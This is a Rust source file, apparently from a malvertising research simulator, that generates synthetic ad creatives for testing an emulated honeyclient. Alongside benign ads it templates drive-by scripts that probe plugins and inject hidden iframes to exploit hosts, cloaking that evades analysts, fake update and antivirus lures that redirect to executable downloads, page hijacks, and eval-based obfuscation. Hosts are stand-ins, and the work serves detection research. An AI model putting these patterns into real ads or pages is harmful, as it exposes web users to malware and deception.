@@ -1,0 +1,415 @@
+//! Creative generation: the HTML + AdScript markup an ad network serves.
+//!
+//! Every creative is a deterministic function of `(campaign seed, variant)`,
+//! so the crawler's corpus de-duplication sees a bounded set of unique
+//! advertisements (the paper collected 673,596 unique ads over three
+//! months), while each page load still picks variants "dynamically".
+//!
+//! Malicious creatives are *behaviourally* malicious — the markup contains a
+//! real program in the AdScript subset that the emulated browser executes:
+//!
+//! * drive-by: plugin probe → exploit iframe injection, optionally behind
+//!   cloaking checks and obfuscation layers (char-code assembly / base64 +
+//!   `eval`);
+//! * deceptive: DOM rewrite into a fake player / update prompt plus a timed
+//!   navigation to the payload URL;
+//! * hijack: `top.location` assignment.
+
+use crate::campaign::{Campaign, CampaignBehavior, CloakStyle, LureKind};
+use malvert_types::rng::SeedTree;
+use malvert_types::DetRng;
+
+/// Well-known benign sites cloaking creatives bounce analysts to (§4.1
+/// mentions redirects to Google and Bing as a cloaking tell).
+pub const CLOAK_BENIGN_TARGETS: [&str; 2] = ["www.google.com", "www.bing.com"];
+
+/// The NX-domain stem cloaking creatives bounce to; the world generator
+/// registers these as non-resolving.
+pub fn cloak_nx_domain(campaign: &Campaign) -> String {
+    format!("sinkhole-{}.expired-zone.biz", campaign.id.0)
+}
+
+/// Renders the creative document for `(campaign, variant)`.
+pub fn render_creative(campaign: &Campaign, variant: u32) -> String {
+    let tree = SeedTree::new(campaign.seed).branch("variant").branch_idx(u64::from(variant));
+    let mut rng = tree.rng();
+    match &campaign.behavior {
+        CampaignBehavior::Benign { landing } => render_benign(campaign, variant, landing.as_str(), &mut rng),
+        CampaignBehavior::DriveBy {
+            exploit_host,
+            cloak,
+            ..
+        } => render_driveby(campaign, variant, exploit_host.as_str(), *cloak, &mut rng),
+        CampaignBehavior::Deceptive {
+            lure, payload_host, ..
+        } => render_deceptive(campaign, variant, *lure, payload_host.as_str(), &mut rng),
+        CampaignBehavior::Hijack { destination } => {
+            render_hijack(campaign, variant, destination.as_str(), &mut rng)
+        }
+    }
+}
+
+fn render_benign(campaign: &Campaign, variant: u32, landing: &str, rng: &mut DetRng) -> String {
+    let slogans = [
+        "Save big today",
+        "Limited time offer",
+        "New arrivals",
+        "Shop the sale",
+        "Best deals online",
+        "Upgrade your life",
+    ];
+    let slogan = slogans[rng.below(slogans.len())];
+    let creative_id = format!("{}-{}", campaign.id.0, variant);
+    let mut html = format!(
+        "<html><head><title>ad</title></head><body style=\"margin:0\">\
+         <a href=\"http://{landing}/offer?c={creative_id}\">\
+         <img src=\"http://{landing}/img/banner-{variant}.png\" alt=\"{slogan}\"></a>"
+    );
+    // Some benign creatives run an impression beacon and a rotator script —
+    // benign JS the honeyclient must *not* flag.
+    if rng.chance(0.5) {
+        html.push_str(&format!(
+            "<script>var img = new Image(); \
+             img.src = 'http://{landing}/beacon?c={creative_id}&r=' + Math.floor(Math.random() * 100000);\
+             </script>"
+        ));
+    }
+    html.push_str("</body></html>");
+    html
+}
+
+/// The drive-by payload script, before obfuscation. It probes
+/// `navigator.plugins` for a vulnerable Flash version and injects an iframe
+/// to the exploit landing page when found.
+fn driveby_core_script(exploit_host: &str, campaign: &Campaign, variant: u32, cloak: CloakStyle, rng: &mut DetRng) -> String {
+    // Cloaking bails out when the environment looks like an analysis system
+    // *or* on a random fraction of traffic — real traffic-distribution
+    // systems bounce part of their visitors to stay under the radar, which
+    // is exactly the tell (§4.1's "redirects to NX domains or benign
+    // websites") that the honeyclient heuristics key on.
+    let cloak_check = match cloak {
+        CloakStyle::None => String::new(),
+        CloakStyle::NxDomain => format!(
+            "if (navigator.analysisTells > 0 || Math.random() < 0.35) \
+             {{ window.location = 'http://{}/'; }} else ",
+            cloak_nx_domain(campaign)
+        ),
+        CloakStyle::BenignSite => format!(
+            "if (navigator.analysisTells > 0 || Math.random() < 0.35) \
+             {{ window.location = 'http://{}/'; }} else ",
+            CLOAK_BENIGN_TARGETS[rng.below(CLOAK_BENIGN_TARGETS.len())]
+        ),
+    };
+    format!(
+        "var vulnerable = false;\
+         var plugins = navigator.plugins;\
+         for (var i = 0; i < plugins.length; i++) {{\
+           var p = plugins[i];\
+           if (p.name.indexOf('Flash') >= 0 && parseFloat(p.version) < 11.8) {{ vulnerable = true; }}\
+           if (p.name.indexOf('Java') >= 0 && parseFloat(p.version) < 7.25) {{ vulnerable = true; }}\
+         }}\
+         {cloak_check}if (vulnerable) {{\
+           var fr = document.createElement('iframe');\
+           fr.width = 1; fr.height = 1;\
+           fr.src = 'http://{exploit_host}/gate?e={eid}&v={variant}';\
+           document.body.appendChild(fr);\
+         }}",
+        eid = campaign.id.0,
+    )
+}
+
+fn render_driveby(
+    campaign: &Campaign,
+    variant: u32,
+    exploit_host: &str,
+    cloak: CloakStyle,
+    rng: &mut DetRng,
+) -> String {
+    // Flash-vector kits (Ford et al., ACSAC'09) need no script at all: the
+    // creative is a plain rich-media ad whose `<embed>` *is* the exploit —
+    // the malicious SWF bytes are what Table 1's "Malicious Flash" row
+    // counts.
+    if campaign.uses_flash_exploit {
+        return format!(
+            "<html><body style=\"margin:0\">\
+             <embed src=\"http://{exploit_host}/flash?e={eid}&amp;v={variant}\" \
+             type=\"application/x-shockwave-flash\" width=\"300\" height=\"250\">\
+             </body></html>",
+            eid = campaign.id.0,
+        );
+    }
+    let core = driveby_core_script(exploit_host, campaign, variant, cloak, rng);
+    let script = obfuscate(&core, campaign.obfuscation_layers, rng);
+    // The visible part looks like an ordinary banner.
+    format!(
+        "<html><body style=\"margin:0\">\
+         <img src=\"http://{exploit_host}/img/promo-{variant}.png\" width=\"300\" height=\"250\">\
+         <script>{script}</script></body></html>"
+    )
+}
+
+fn render_deceptive(
+    campaign: &Campaign,
+    variant: u32,
+    lure: LureKind,
+    payload_host: &str,
+    rng: &mut DetRng,
+) -> String {
+    let (headline, button, filename) = match lure {
+        LureKind::FakeFlashUpdate => (
+            "Your Flash Player is out of date",
+            "Update now",
+            "flash_update.exe",
+        ),
+        LureKind::FakeMediaPlayer => (
+            "Missing codec: install MediaPlayer HD to view this content",
+            "Install player",
+            "mediaplayer_hd.exe",
+        ),
+        LureKind::FakeAntivirus => (
+            "Warning: 3 threats detected on your computer",
+            "Remove threats",
+            "securityscan.exe",
+        ),
+    };
+    let countdown = rng.range_inclusive(2, 6);
+    let core = format!(
+        "document.write('<div class=\"alert\"><b>{headline}</b></div>');\
+         document.write('<div class=\"btn\">{button}</div>');\
+         var left = {countdown};\
+         function tick() {{\
+           left--;\
+           if (left <= 0) {{ window.location = 'http://{payload_host}/get/{filename}?c={cid}&v={variant}'; }}\
+           else {{ setTimeout(tick, 1000); }}\
+         }}\
+         setTimeout(tick, 1000);",
+        cid = campaign.id.0,
+    );
+    let script = obfuscate(&core, campaign.obfuscation_layers, rng);
+    format!("<html><body style=\"margin:0\"><script>{script}</script></body></html>")
+}
+
+fn render_hijack(campaign: &Campaign, variant: u32, destination: &str, rng: &mut DetRng) -> String {
+    let delay_form = rng.chance(0.5);
+    let target = format!(
+        "http://{destination}/lp?h={hid}&v={variant}",
+        hid = campaign.id.0
+    );
+    let core = if delay_form {
+        format!(
+            "function go() {{ top.location = '{target}'; }} setTimeout(go, 500);"
+        )
+    } else {
+        format!("top.location = '{target}';")
+    };
+    let script = obfuscate(&core, campaign.obfuscation_layers, rng);
+    format!(
+        "<html><body style=\"margin:0\">\
+         <img src=\"http://{destination}/img/win-{variant}.png\" width=\"728\" height=\"90\">\
+         <script>{script}</script></body></html>"
+    )
+}
+
+/// Applies `layers` obfuscation layers to `code`.
+///
+/// Layer styles alternate between char-code assembly and base64 — both are
+/// decoded at runtime by the creative itself via `eval`, which forces the
+/// honeyclient to actually execute the script to see the behaviour.
+pub fn obfuscate(code: &str, layers: u8, rng: &mut DetRng) -> String {
+    let mut current = code.to_string();
+    for layer in 0..layers {
+        current = if (layer + rng.below(2) as u8).is_multiple_of(2) {
+            obfuscate_charcodes(&current, rng)
+        } else {
+            obfuscate_base64(&current)
+        };
+    }
+    current
+}
+
+fn obfuscate_charcodes(code: &str, rng: &mut DetRng) -> String {
+    // Shift every char code by a small key, decode at runtime.
+    let key = rng.range_inclusive(1, 9) as u32;
+    let encoded: Vec<String> = code
+        .chars()
+        .map(|c| (c as u32 + key).to_string())
+        .collect();
+    format!(
+        "var _d = [{}]; var _s = ''; \
+         for (var _i = 0; _i < _d.length; _i++) {{ _s += String.fromCharCode(_d[_i] - {key}); }} \
+         eval(_s);",
+        encoded.join(",")
+    )
+}
+
+fn obfuscate_base64(code: &str) -> String {
+    // Base64 layer using the stdlib-compatible encoder.
+    let encoded = base64(code.as_bytes());
+    format!("eval(atob('{encoded}'));")
+}
+
+fn base64(data: &[u8]) -> String {
+    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
+    for chunk in data.chunks(3) {
+        let b0 = chunk[0] as u32;
+        let b1 = chunk.get(1).copied().unwrap_or(0) as u32;
+        let b2 = chunk.get(2).copied().unwrap_or(0) as u32;
+        let n = (b0 << 16) | (b1 << 8) | b2;
+        out.push(ALPHABET[(n >> 18) as usize & 63] as char);
+        out.push(ALPHABET[(n >> 12) as usize & 63] as char);
+        out.push(if chunk.len() > 1 {
+            ALPHABET[(n >> 6) as usize & 63] as char
+        } else {
+            '='
+        });
+        out.push(if chunk.len() > 2 {
+            ALPHABET[n as usize & 63] as char
+        } else {
+            '='
+        });
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use malvert_types::{CampaignId, DomainName};
+
+    fn benign_campaign() -> Campaign {
+        Campaign {
+            id: CampaignId(1),
+            advertiser: "brand-1".into(),
+            behavior: CampaignBehavior::Benign {
+                landing: DomainName::parse("landing-shop1.com").unwrap(),
+            },
+            bid: 1.0,
+            active_from: 0,
+            variant_count: 3,
+            obfuscation_layers: 0,
+            uses_flash_exploit: false,
+            seed: 77,
+        }
+    }
+
+    fn driveby_campaign(layers: u8, cloak: CloakStyle) -> Campaign {
+        Campaign {
+            id: CampaignId(2),
+            advertiser: "shade-2".into(),
+            behavior: CampaignBehavior::DriveBy {
+                exploit_host: DomainName::parse("exploit-gate9.biz").unwrap(),
+                family: 3,
+                cloak,
+            },
+            bid: 4.0,
+            active_from: 5,
+            variant_count: 2,
+            obfuscation_layers: layers,
+            uses_flash_exploit: false,
+            seed: 88,
+        }
+    }
+
+    #[test]
+    fn creative_is_deterministic_per_variant() {
+        let c = benign_campaign();
+        assert_eq!(render_creative(&c, 0), render_creative(&c, 0));
+        assert_ne!(render_creative(&c, 0), render_creative(&c, 1));
+    }
+
+    #[test]
+    fn benign_creative_links_landing() {
+        let html = render_creative(&benign_campaign(), 0);
+        assert!(html.contains("landing-shop1.com/offer"));
+        assert!(html.contains("<img"));
+        assert!(!html.contains("top.location"));
+    }
+
+    #[test]
+    fn driveby_creative_contains_probe_logic() {
+        let html = render_creative(&driveby_campaign(0, CloakStyle::None), 0);
+        assert!(html.contains("navigator.plugins"));
+        assert!(html.contains("exploit-gate9.biz/gate"));
+        assert!(html.contains("createElement('iframe')"));
+    }
+
+    #[test]
+    fn obfuscated_driveby_hides_plaintext() {
+        let c = driveby_campaign(2, CloakStyle::None);
+        let html = render_creative(&c, 0);
+        // After two layers, the telltale strings are not in the plaintext.
+        assert!(
+            !html.contains("navigator.plugins"),
+            "obfuscation left probe logic in cleartext"
+        );
+        assert!(html.contains("eval"));
+    }
+
+    #[test]
+    fn obfuscation_roundtrips_through_interpreter() {
+        use malvert_adscript::{Interpreter, Limits, NoHost};
+        let mut rng = DetRng::new(5);
+        for layers in 0..=2u8 {
+            let obf = obfuscate("out = 6 * 7;", layers, &mut rng);
+            let mut interp = Interpreter::new(NoHost, Limits::default(), 1);
+            interp.run(&obf).unwrap();
+            let v = interp.get_global("out").cloned().unwrap();
+            assert!(matches!(v, malvert_adscript::Value::Num(n) if n == 42.0), "layers={layers}");
+        }
+    }
+
+    #[test]
+    fn cloaked_creative_mentions_cloak_target() {
+        let nx = render_creative(&driveby_campaign(0, CloakStyle::NxDomain), 0);
+        assert!(nx.contains("expired-zone.biz"));
+        let benign = render_creative(&driveby_campaign(0, CloakStyle::BenignSite), 0);
+        assert!(
+            CLOAK_BENIGN_TARGETS.iter().any(|t| benign.contains(t)),
+            "benign cloak target missing"
+        );
+    }
+
+    #[test]
+    fn deceptive_creative_has_lure_and_payload_url() {
+        let c = Campaign {
+            id: CampaignId(3),
+            advertiser: "shade-3".into(),
+            behavior: CampaignBehavior::Deceptive {
+                lure: LureKind::FakeFlashUpdate,
+                payload_host: DomainName::parse("payload-drop3.net").unwrap(),
+                family: 1,
+            },
+            bid: 3.0,
+            active_from: 0,
+            variant_count: 1,
+            obfuscation_layers: 0,
+            uses_flash_exploit: false,
+            seed: 99,
+        };
+        let html = render_creative(&c, 0);
+        assert!(html.contains("Flash Player is out of date"));
+        assert!(html.contains("payload-drop3.net/get/flash_update.exe"));
+        assert!(html.contains("setTimeout"));
+    }
+
+    #[test]
+    fn hijack_creative_sets_top_location() {
+        let c = Campaign {
+            id: CampaignId(4),
+            advertiser: "shade-4".into(),
+            behavior: CampaignBehavior::Hijack {
+                destination: DomainName::parse("scam-portal.biz").unwrap(),
+            },
+            bid: 2.5,
+            active_from: 0,
+            variant_count: 1,
+            obfuscation_layers: 0,
+            uses_flash_exploit: false,
+            seed: 111,
+        };
+        let html = render_creative(&c, 0);
+        assert!(html.contains("top.location"));
+        assert!(html.contains("scam-portal.biz"));
+    }
+}
